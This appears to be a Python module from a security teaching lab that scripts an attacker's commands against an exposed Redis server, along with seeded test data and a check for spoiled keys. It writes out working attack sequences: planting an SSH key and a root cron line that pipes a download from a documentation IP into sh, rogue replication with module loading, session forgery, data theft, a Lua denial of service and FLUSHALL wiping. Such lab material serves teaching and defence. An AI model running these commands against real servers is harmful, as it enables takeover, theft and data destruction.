"""What an attacker tries: real commands, and by which of their replies he knows that he is through.

An attack ends where the connection is refused or nobody is let in; a line that ``must`` do ends it
where it is refused. Some lines are only said if the one before was refused (``if_refused``).
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from typing import NamedTuple

from tutor.labs.security.settings import ATTACKER

PAUSE_US = 120_000
LISTEN_US = 1_500_000

FOUND = b"<found>"
"""Stands for all keys that were listed before."""

FOUND_OWN = b"<found app:>"
"""Stands for those of the application."""

SSH_KEY = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMadeUpForDocumentationOnly0123456789abcdef mallory"
CRON_LINE = b"* * * * * curl -s http://203.0.113.9/x | sh"


class Line(NamedTuple):
    """A command, how long the attacker waits behind it, and when it is said."""

    words: tuple[bytes, ...]
    wait_us: int = PAUSE_US
    must: bool = False
    if_refused: bool = False


def _line(text: str, wait_us: int = PAUSE_US, *, must: bool = False, refused: bool = False) -> Line:
    return Line(tuple(text.encode().split()), wait_us, must, refused)


def _file(folder: str, name: str, planted: bytes) -> tuple[Line, ...]:
    """Have the server write a dump that holds a line of the attacker's, under a name of his."""
    return (
        _line("CONFIG SET rdbcompression no", must=True),
        _line(f"CONFIG SET dir {folder}", must=True),
        _line(f"CONFIG SET dbfilename {name}", must=True),
        Line((b"SET", b"x", b"\n\n" + planted + b"\n\n")),
        _line("SAVE"),
    )


ATTACKS: Mapping[str, tuple[Line, ...]] = {
    "look": (
        _line("PING"),
        _line("INFO server"),
        _line("KEYS *"),
        _line("SCAN 0 COUNT 100", refused=True),
    ),
    "guess": (_line("PING"),),  # behind it AUTH after AUTH: see `tutor.labs.security.attacker`
    "steal": (_line("GET app:session:1"), _line("DUMP app:session:1"), _line("HGETALL app:cart:1")),
    "neighbour": (_line("GET billing:card:7"), _line("DUMP billing:card:7")),
    "forge": (Line((b"SET", b"app:session:1", b"user=1;role=admin")),),
    "monitor": (_line("MONITOR", LISTEN_US, must=True),),
    "file": _file("/root/.ssh", "authorized_keys", SSH_KEY),
    "cron": _file("/var/spool/cron", "root", CRON_LINE),
    "replica": (
        _line(f"REPLICAOF {ATTACKER} 6379", LISTEN_US, must=True),
        _line("MODULE LOAD /tmp/exp.so"),
        _line("GET app:session:1"),
    ),
    "lua": (Line((b"EVAL", b"while true do end", b"0")),),
    "wipe": (
        _line("FLUSHALL"),
        _line("SCAN 0 COUNT 100", refused=True),
        Line((b"DEL", FOUND)),
        Line((b"DEL", FOUND_OWN), if_refused=True),
    ),
}
"""Each attack in the order in which the attacker goes through them."""

RIGHTS_ATTACKS = tuple(name for name in ATTACKS if name != "guess")
"""What is left to try for who knows a password already."""

PLANTED: Mapping[str, tuple[str, str, bytes]] = {
    "file": ("/root/.ssh", "authorized_keys", SSH_KEY),
    "cron": ("/var/spool/cron", "root", CRON_LINE),
}
"""Of the attacks that write a file: its folder, its name, the line in it."""

ROGUE_DATA: tuple[tuple[bytes, ...], ...] = (
    (b"SET", b"pwned", b"send 0.1 BTC to get your data back"),
)
"""What the attacker's own server holds."""

DATA: Mapping[bytes, tuple[bytes, ...]] = {
    **{b"app:session:%d" % n: (b"SET", b"app:session:%d" % n, b"user=%d;token=t%05d" % (n, 7919*n))
       for n in range(1, 7)},
    **{b"app:cart:%d" % n: (b"HSET", b"app:cart:%d" % n, b"puer", b"%d" % n, b"cup", b"1")
       for n in range(1, 4)},
    **{b"app:page:%d" % n: (b"SET", b"app:page:%d" % n, b"<html>%d</html>" % n)
       for n in range(1, 5)},
    b"billing:card:7": (b"SET", b"billing:card:7", b"4000 0000 0000 0002"),
    b"billing:invoice:9": (b"SET", b"billing:invoice:9", b"1250"),
}  # fmt: skip
"""What is in the server, by key: the command that stores it. The first three groups are the
application's, the rest belongs to another one."""


def spoiled(read: Callable[[bytes], object]) -> set[bytes]:
    """Which of `DATA` are gone or hold something else. ``read`` gives a key's value, None without
    one."""
    found: set[bytes] = set()
    for key, command in DATA.items():
        value = read(key)
        if value is None or (command[0] == b"SET" and _text(value) != command[2]):
            found.add(key)
    return found


def _text(value: object) -> bytes:
    """What a string holds: digits are kept as a number."""
    return b"%d" % value if isinstance(value, int) else bytes(value)  # type: ignore[call-overload]
